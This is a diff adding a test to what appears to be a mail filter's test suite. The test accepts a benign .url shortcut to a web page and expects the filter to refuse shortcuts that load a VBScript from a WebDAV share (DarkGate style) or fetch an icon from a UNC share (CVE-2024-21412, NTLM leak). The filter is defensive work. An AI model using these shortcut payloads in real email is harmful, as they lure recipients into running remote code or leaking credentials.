@@ -112,6 +112,36 @@ test('the carriers of recent campaigns are refused by default, as Gmail and Outl
   }
 });
 
+test('an Internet shortcut to a web page is a link, not a program; one to a file: or UNC path is refused', async () => {
+  const shortcut = (lines: string[]) => Buffer.from(`${lines.join('\r\n')}\r\n`);
+  const part = (name: string) => [
+    'Content-Type: application/octet-stream',
+    `Content-Disposition: attachment; filename="${name}"`,
+  ];
+  // As Outlook Express saved a dragged link (the benchmark corpus's ham has one).
+  const web = await send(
+    part('Liberalism in America.url'),
+    shortcut([
+      '[DEFAULT]',
+      'BASEURL=http://www.example.edu/liberalism.html',
+      '[InternetShortcut]',
+      'URL=http://www.example.edu/liberalism.html',
+      'Modified=E0824ED43364C201DE',
+    ]),
+  );
+  assert.equal(web.code, 250, web.raw);
+  assert.equal((await newestVerdict(t, CAROL)).symbols.ATTACH_EXECUTABLE, undefined);
+  // DarkGate: a script on a WebDAV share; CVE-2024-21412: a web link whose icon comes from a share (NTLM).
+  for (const lines of [
+    ['[InternetShortcut]', 'URL=file://\\\\198.51.100.7@80\\share\\invoice.vbs'],
+    ['[InternetShortcut]', 'URL=https://example.org/', 'IconFile=\\\\198.51.100.7\\icons\\pdf.ico', 'IconIndex=1'],
+    ['URL=https://example.org/'],
+  ]) {
+    const r = await send(part('Invoice.url'), shortcut(lines));
+    assert.equal(r.code, 550, `${lines.join(' ')}: ${r.raw}`);
+  }
+});
+
 test('a name cut by a NUL (invoice.exe%00.pdf) is judged as what a C-string reader saves: invoice.exe', async () => {
   const r = await send([
     'Content-Type: application/pdf',
